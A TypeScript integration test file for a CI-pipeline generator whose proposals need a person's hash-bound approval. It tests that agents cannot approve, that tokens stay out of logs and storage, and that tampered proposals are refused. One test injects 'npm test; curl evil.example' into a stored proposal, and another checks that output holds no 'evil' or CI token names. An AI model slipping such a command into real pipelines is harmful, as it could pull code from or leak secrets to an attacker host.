// From a repository of the archive to a merge request and its run, through the operations that every door calls.
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { describeTools, callTool } from '../../agent/tools/index.ts';
import { nextOf } from '../../agent/providers/scripted/answer.ts';
import type { Message, TurnResult } from '../../contract/conversation.ts';
import { PivoError } from '../../contract/failures.ts';
import { pipelineWorkflowId, TOPIC } from '../../contract/names.ts';
import { proposalHash } from '../../contract/pipeline.ts';
import type { PipelineRunStatus } from '../../contract/pipeline-run.ts';
import { approvals } from '../../operations/approvals.ts';
import { approvePipeline, rejectPipeline } from '../../operations/approve-pipeline.ts';
import { approve } from '../../operations/approve.ts';
import { commitPipeline } from '../../operations/commit-pipeline.ts';
import { generatePipeline, type GeneratedPipeline } from '../../operations/generate-pipeline.ts';
import type { Caller } from '../../operations/operation.ts';
import { pipelineStatus } from '../../operations/pipeline-status.ts';
import { pipelines } from '../../operations/pipelines.ts';
import type { PipelineView } from '../../operations/pipeline-view.ts';
import { openConversations } from '../../state/conversations.ts';
import { readUntil } from '../events/conformance.ts';
import { TOKEN } from '../forges/fake-forge.ts';
import { callOperation } from '../harness/operations.ts';
import { OLD_CI, openScene, runOf, type Scene } from './scene.ts';

const OWNER: Caller = { user: 'ada', via: 'cli', owner: true };
const AGENT: Caller = { user: 'gemini', via: 'agent', owner: false };
const MCP: Caller = { user: 'ada', via: 'mcp', owner: false };

let scene: Scene;

beforeAll(async () => void (scene = await openScene()));
afterAll(() => scene.close());

/** The forge as it was at the beginning. */
beforeEach(() => {
  const { fake } = scene;
  const main = [...fake.git.commits.keys()][0] ?? '';
  fake.git.branches.clear();
  fake.git.branches.set('main', main);
  fake.runs.length = 0;
  fake.requests.length = 0;
  fake.asked.length = 0;
});

const generate = (caller = OWNER, more: object = {}): Promise<GeneratedPipeline> => callOperation(generatePipeline, scene.contextOf(caller), { repo_url: scene.origin, ...more });
const statusOf = (id: string): Promise<PipelineRunStatus> => scene.temporal.client.workflow.getHandle(pipelineWorkflowId(id)).query('status');
const writes = (): string[] => scene.fake.asked.filter(({ method, route }) => method !== 'GET' && !route.endsWith('/ci/lint')).map(({ route }) => route);
const reject = (id: string): Promise<unknown> => callOperation(rejectPipeline, scene.contextOf(OWNER), { pipeline: id });

/** Approves and lets GitLab run the branch; the view at the end. */
async function seeThrough(made: GeneratedPipeline, states: Parameters<typeof runOf>[2], forge = scene.fake): Promise<PipelineView> {
  const ended = callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true });
  await expect.poll(async () => (await statusOf(made.id)).state).toBe('watching');
  runOf(forge, (await statusOf(made.id)).branch ?? '', states);
  return (await ended) as PipelineView;
}

describe('a proposal', () => {
  it('is made of the archive, says what it replaces, and commits nothing', async () => {
    const made = await generate();
    const { files, stages, jobs, templates } = made.proposal;
    expect(made).toMatchObject({ repository: 'shop', system: 'gitlab', status: 'generated', approver: null, forge: scene.origin.replace(/\/+$/, '') });
    expect(files.find(({ path }) => path === '.gitlab-ci.yml')).toMatchObject({ existing: OLD_CI });
    expect([stages.length > 0, jobs.some(({ script }) => script.join('\n').includes('npm')), templates.length > 0]).toEqual([true, true, true]);
    expect(made.hash).toBe(proposalHash(made.proposal));
    expect(writes()).toEqual([]);
    await reject(made.id);
  });

  it('is checked with the names of the variables that the forge masks, and never has their values', async () => {
    scene.fake.variables.splice(0, 1, { name: 'PLAIN', masked: true });
    const made = await generate();
    expect(scene.fake.asked.map(({ route }) => route)).toContain('GET /projects/{id}/variables');
    const { events } = await scene.temporal.client.workflow.getHandle(made.workflowId).fetchHistory();
    expect(JSON.stringify([made, events, scene.logged])).not.toContain('value-of-PLAIN');
    await reject(made.id);
  });

  it('does nothing that a README asks for', async () => {
    const made = await generate();
    expect(JSON.stringify(made.proposal.files.map(({ content }) => content))).not.toMatch(/evil|DEPLOY_TOKEN|CI_JOB_TOKEN/);
    await reject(made.id);
  });

  it('of a repository that the archive has not says to back it up first', async () => {
    for (const repo of [`${scene.origin}x`, 'nothing-here']) await expect(callOperation(generatePipeline, scene.contextOf(OWNER), { repo_url: repo })).rejects.toMatchObject({ kind: 'NotFound', hint: expect.stringContaining('pivo ingest') as string });
  });

  it('with a secret in the URL is refused before anything keeps it', async () => {
    await expect(callOperation(generatePipeline, scene.contextOf(OWNER), { repo_url: `http://x:${TOKEN}@127.0.0.1/acme/shop` })).rejects.toMatchObject({ kind: 'UrlRefused' });
  });

  it('that is rejected ends without a commit', async () => {
    const made = await generate();
    await callOperation(rejectPipeline, scene.contextOf(OWNER), { pipeline: made.id, reason: 'not now' });
    await expect(scene.temporal.client.workflow.getHandle(pipelineWorkflowId(made.id)).result()).rejects.toMatchObject({ cause: { type: 'PlanRejected' } });
    expect(await callOperation(pipelineStatus, scene.contextOf(OWNER), { pipeline: made.id })).toMatchObject({ pipeline: { status: 'rejected', failure: expect.stringContaining('not now') as string } });
    expect(writes()).toEqual([]);
  });

  it('that nobody approves expires', async () => {
    const made = await generate(OWNER, { expiresAfter: 1 });
    await expect(scene.temporal.client.workflow.getHandle(pipelineWorkflowId(made.id)).result()).rejects.toMatchObject({ cause: { type: 'PlanExpired' } });
    expect(await callOperation(pipelineStatus, scene.contextOf(OWNER), { pipeline: made.id })).toMatchObject({ pipeline: { status: 'expired' } });
  });
});

describe('an approval', () => {
  it('is for the exact files: another hash is refused and nothing is committed', async () => {
    const made = await generate();
    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: '0'.repeat(64) })).rejects.toMatchObject({ kind: 'PlanChanged' });
    expect([(await statusOf(made.id)).state, writes()]).toEqual(['awaiting approval', []]);
    await reject(made.id);
  });

  it('is a person\'s: neither agent nor MCP can give it, by any operation or tool', async () => {
    const made = await generate(AGENT);
    for (const caller of [AGENT, MCP]) {
      await expect(callOperation(approvePipeline, scene.contextOf(caller), { pipeline: made.id, proposalHash: made.hash })).rejects.toMatchObject({ kind: 'InvalidInput' });
      await expect(callOperation(rejectPipeline, scene.contextOf(caller), { pipeline: made.id })).rejects.toMatchObject({ kind: 'InvalidInput' });
      await expect(callOperation(approve, scene.contextOf(caller), { restore: made.workflowId, planHash: made.hash })).rejects.toMatchObject({ kind: 'InvalidInput' });
    }
    expect((await describeTools()).filter(({ name }) => /approve|reject/.test(name))).toEqual([]);
    expect([(await statusOf(made.id)).state, writes()]).toEqual(['awaiting approval', []]);
    await reject(made.id);
  });

  it('of the general kind, as a chat gives it, commits a pipeline too', async () => {
    const made = await generate();
    expect(await callOperation(approvals, scene.contextOf(OWNER), {})).toMatchObject([{ type: 'pipeline', pipelineId: made.id, planHash: made.hash }]);
    await callOperation(approve, scene.contextOf(OWNER), { restore: made.workflowId, planHash: made.hash });
    await expect.poll(async () => (await statusOf(made.id)).state).toBe('watching');
    expect(scene.fake.requests).toHaveLength(1);
    await scene.temporal.client.workflow.getHandle(made.workflowId).cancel();
    await expect.poll(async () => (await callOperation(pipelines, scene.contextOf(OWNER), { limit: 1 })).pipelines[0]).toMatchObject({ status: 'committed', approver: 'ada' });
  });

  it('may name the conversation that asked for it', async () => {
    const made = await generate(AGENT);
    using state = openConversations(scene.contextOf(OWNER).paths.state);
    const tool = { name: 'generate_pipeline', approval: { workflowId: made.workflowId, planHash: made.hash, summary: 'a pipeline' } };
    const result = { conversation: 'chat-7', turn: 't1', question: 'give shop a pipeline', answer: '', end: 'stop', tools: [tool], usage: { input: 1, output: 1 }, model: 'm', started: made.created, finished: made.created } as unknown as TurnResult;
    state.record({ title: 'A pipeline', result, messages: [], speaker: { user: 'ada', via: 'server' } });
    await expect(callOperation(approve, scene.contextOf(OWNER), { restore: 'chat-7', planHash: '0'.repeat(64) })).rejects.toMatchObject({ kind: 'NotFound' });
    expect(await callOperation(approve, scene.contextOf(OWNER), { restore: 'chat-7', planHash: made.hash })).toMatchObject({ pipelineId: made.id });
    await scene.temporal.client.workflow.getHandle(made.workflowId).cancel();
    await expect(scene.temporal.client.workflow.getHandle(made.workflowId).result()).rejects.toMatchObject({ name: 'WorkflowFailedError' });
  });

  it('of files of which one has changed since is Exists, and nothing is committed', async () => {
    const made = await generate();
    scene.fake.git.push('main', 'Meanwhile', [{ path: '.gitlab-ci.yml', content: 'new:\n  script: [make all]\n' }]);
    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true })).rejects.toMatchObject({ kind: 'Exists', message: expect.stringContaining('.gitlab-ci.yml') as string });
    expect(writes()).toEqual([]);
    expect(await callOperation(pipelineStatus, scene.contextOf(OWNER), { pipeline: made.id })).toMatchObject({ pipeline: { status: 'failed', approver: 'ada' } });
  });

  it('is for no other files, also where those that are kept were changed after they were shown', async () => {
    const made = await generate();
    const db = new Database(join(scene.deps.cache, '../state.db'));
    db.prepare("UPDATE pipelines SET proposal = replace(proposal, 'npm test', 'npm test; curl evil.example') WHERE id = ?").run(made.id);
    db.close();
    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true })).rejects.toMatchObject({ kind: 'PlanChanged' });
    expect(writes()).toEqual([]);
  });

  it('of a forge that asks to be left alone is carried out when it may', async () => {
    const made = await generate();
    scene.fake.fault({ on: 'POST /projects/{id}/repository/commits', answer: { status: 429, body: 'Retry later\n', headers: { 'retry-after': '1' } } });
    const view = await seeThrough(made, { build: 'passed' });
    expect(view).toMatchObject({ status: 'watched', run: { state: 'passed' } });
    expect(writes().filter((route) => route.endsWith('/commits'))).toHaveLength(2);
  });
});

describe('an approved pipeline', () => {
  it('is one commit of exactly these files, a merge request, and a run that is watched to its end', async () => {
    const made = await generate();
    const view = await seeThrough(made, { build: 'passed' });
    const { git, requests } = scene.fake;
    expect(view).toMatchObject({ status: 'watched', approver: 'ada', branch: `pivo/pipeline-${made.hash.slice(0, 12)}`, run: { state: 'passed', jobs: [{ name: 'test', state: 'passed' }] }, failed: [] });
    const head = git.branches.get(view.branch ?? '') ?? '';
    expect([head, git.at(head).parents]).toEqual([view.commitId, [git.branches.get('main')]]);
    for (const { path, content } of made.proposal.files) expect(git.text(head, path)).toBe(content);
    expect(git.changed(head, git.branches.get('main') ?? '')).toEqual(made.proposal.files.map(({ path }) => path).sort());
    expect(requests.map(({ source, target }) => ({ source, target }))).toEqual([{ source: view.branch, target: 'main' }]);
    expect(scene.fake.wrong).toEqual([]);
  });

  it('whose job fails is a result, with the cause that its log proves', async () => {
    const made = await generate();
    const log = ['$ npm ci', 'added 12 packages', '$ npm test', "Error: ENOSPC: no space left on device, write", 'ERROR: Job failed: exit code 1'].join('\n');
    const view = await seeThrough(made, { build: 'failed', log: `${log}\n` });
    expect(view).toMatchObject({ status: 'watched', run: { state: 'failed' }, failed: [{ name: 'test', note: null, source: expect.stringMatching(/^[0-9a-f]{16}$/) as string }] });
    expect(view.failed[0]?.cause?.evidence.map(({ text }) => text).join('\n')).toContain('no space left');
    const writer = { name: 'a model', write: () => Promise.reject(new PivoError('Unavailable', 'the model does not answer')) };
    const { pipeline } = await callOperation(pipelineStatus, { ...scene.contextOf(OWNER), writer }, { pipeline: made.id });
    expect(pipeline?.failed[0]?.cause).toMatchObject({ evidence: view.failed[0]?.cause?.evidence, text: expect.stringContaining('does not answer') as string });
  });

  it('whose merge request is refused tells in the audit log what it left on the forge, and the same files go on from there', async () => {
    const made = await generate();
    scene.fake.fault({ on: 'POST /projects/{id}/merge_requests', answer: { status: 403, body: { message: '403 Forbidden' } } });
    await expect(callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true })).rejects.toMatchObject({ kind: 'NotAllowed' });
    const { branch, commit } = await statusOf(made.id);
    const told = await readUntil(scene.deps.events, TOPIC.audit, (all) => all.some(({ message }) => message.value.includes(made.id) && message.value.includes('NotAllowed')));
    expect(JSON.parse(told.at(-1)?.message.value ?? '')).toMatchObject({ action: 'pipeline', details: { kind: 'NotAllowed', branch, commit, mergeRequest: null } });
    const again = await generate();
    expect(await seeThrough(again, { build: 'passed' })).toMatchObject({ status: 'watched', branch, commitId: commit });
  });

  it('whose log the forge does not give for hours ends without it, and says why', async () => {
    const made = await generate();
    scene.fake.fault({ on: 'GET /projects/{id}/jobs/{job_id}/trace', answer: { status: 503, body: 'down', headers: { 'retry-after': '7200' } } });
    const view = await seeThrough(made, { build: 'failed', log: 'ERROR: Job failed: exit code 1\n' });
    expect(view).toMatchObject({ status: 'watched', run: { state: 'failed' }, failed: [{ name: 'test', source: null, note: expect.stringContaining('GitLab') as string }] });
  });

  it('of more jobs than are shown shows those that failed', async () => {
    const made = await generate();
    const ended = callOperation(approvePipeline, scene.contextOf(OWNER), { pipeline: made.id, proposalHash: made.hash, wait: true });
    await expect.poll(async () => (await statusOf(made.id)).state).toBe('watching');
    const run = runOf(scene.fake, (await statusOf(made.id)).branch ?? '', { build: 'failed', log: 'ERROR: Job failed: exit code 1\n' });
    run.jobs.unshift(...Array.from({ length: 230 }, (_, at) => ({ id: at + 1, name: `part-${at}`, stage: 'build', state: 'passed' as const, seconds: 1 })));
    const view = (await ended) as PipelineView;
    expect([view.run?.jobs.length, view.run?.jobs.at(-1)?.name, view.failed.map(({ name }) => name)]).toEqual([200, 'test', ['test']]);
  });

  it('may be for another forge than the origin\'s, as after a restore', async () => {
    const { github } = scene;
    const made = await generate(OWNER, { forge: `${github.web}/acme/shop` });
    expect(made).toMatchObject({ system: 'github', proposal: { files: expect.arrayContaining([expect.objectContaining({ path: '.github/workflows/pivo.yml', existing: null })]) as unknown } });
    const view = await seeThrough(made, { build: 'passed' }, github);
    expect(view).toMatchObject({ status: 'watched', run: { state: 'passed' }, mergeRequest: expect.stringContaining(github.web) as string });
    expect([github.requests.length, scene.fake.requests.length, github.wrong]).toEqual([1, 0, []]);
  });

  it('is a row that SQL reads, with nothing of the token', async () => {
    const made = await generate();
    const view = await seeThrough(made, { build: 'passed' });
    const db = new Database(join(scene.deps.cache, '../state.db'), { readonly: true });
    const row = db.prepare('SELECT repo_name, status, approver, branch, commit_id, gitlab_ci, dockerfile, github_workflow FROM pipelines WHERE id = ?').get(made.id);
    db.close();
    expect(row).toMatchObject({ repo_name: 'shop', status: 'watched', approver: 'ada', branch: view.branch, commit_id: view.commitId, gitlab_ci: made.proposal.files[0]?.content, github_workflow: null });
    const { events } = await scene.temporal.client.workflow.getHandle(made.workflowId).fetchHistory();
    expect(JSON.stringify(events?.map((event) => [...JSON.stringify(event).matchAll(/"data":"([^"]+)"/g)].map(([, data]) => Buffer.from(data ?? '', 'base64').toString())))).not.toContain(TOKEN);
    const home = join(scene.deps.cache, '..');
    for (const file of (await readdir(home)).filter((name) => /\.db(-wal)?$/.test(name))) expect((await readFile(join(home, file))).includes(TOKEN), file).toBe(false);
  });
});

describe('the agent', () => {
  const options = { signal: new AbortController().signal };
  const parsed = (content: string): Record<string, unknown> => JSON.parse(content) as Record<string, unknown>;

  it('proposes, asks and looks by the tools\' own names, and is told that a person approves', async () => {
    const made = await callTool(scene.contextOf(AGENT), 'generate_pipeline', { repo_url: scene.origin }, options);
    const { pipeline, hash } = parsed(made.content);
    expect(made.approval).toEqual({ workflowId: pipelineWorkflowId(String(pipeline)), planHash: hash, summary: expect.stringContaining('.gitlab-ci.yml') as string });
    const asked = await callTool(scene.contextOf(AGENT), 'commit_pipeline', { repo_url: scene.origin }, options);
    expect(parsed(asked.content)).toMatchObject({ approval_required: true, pipeline, hash });
    expect(asked.approval).toEqual(made.approval);
    expect(writes()).toEqual([]);
    runOf(scene.fake, 'main', { build: 'running' });
    const looked = await callTool(scene.contextOf(AGENT), 'check_pipeline_status', { repo_url: scene.origin, branch: 'main' }, options);
    expect(parsed(looked.content)).toMatchObject({ branch: 'main', run: { state: 'running' } });
    await reject(String(pipeline));
  });

  it('chooses neither whose token is sent nor where to', async () => {
    for (const more of [{ credential: 'forge' }, { forge: 'https://gitlab.com/else/where' }]) {
      await expect(generate(AGENT, more)).rejects.toMatchObject({ kind: expect.stringMatching(/InvalidInput|NotAllowed/) as string });
      expect((await callTool(scene.contextOf(AGENT), 'generate_pipeline', { repo_url: scene.origin, ...more }, options)).failure).toMatchObject({ kind: 'InvalidInput' });
    }
  });

  it('without a model understands the wish by its words', async () => {
    const messages: Message[] = [{ role: 'user', text: `Please generate a pipeline for ${scene.origin}` }];
    const tools = await describeTools();
    for (let next = nextOf({ messages, tools }); ; next = nextOf({ messages, tools })) {
      if ('answer' in next) {
        expect(next.answer).toMatch(/gitlab-ci\.yml[^]*waits for a person's approval[^]*pivo pipeline approve shop-/);
        return reject(/`(shop-[0-9a-f]+)`/.exec(next.answer)?.[1] ?? '');
      }
      messages.push({ role: 'assistant', text: '', calls: next.calls });
      for (const { id, name, arguments: given } of next.calls) messages.push({ role: 'tool', call: id, name, failed: false, cut: false, content: (await callTool(scene.contextOf(AGENT), name, given, options)).content });
    }
  });

  it('without a proposal that waits is told to make one', async () => {
    await expect(callOperation(commitPipeline, scene.contextOf(AGENT), { repo_url: 'shop' })).rejects.toMatchObject({ kind: 'NotFound', hint: expect.stringContaining('generate') as string });
  });
});

it('the token is in no line of the worker\'s log, though forges refused and were asked again', () => {
  expect(scene.logged.some((line) => line.includes('limits how often it is asked'))).toBe(true);
  expect(scene.logged.filter((line) => line.includes(TOKEN))).toEqual([]);
});
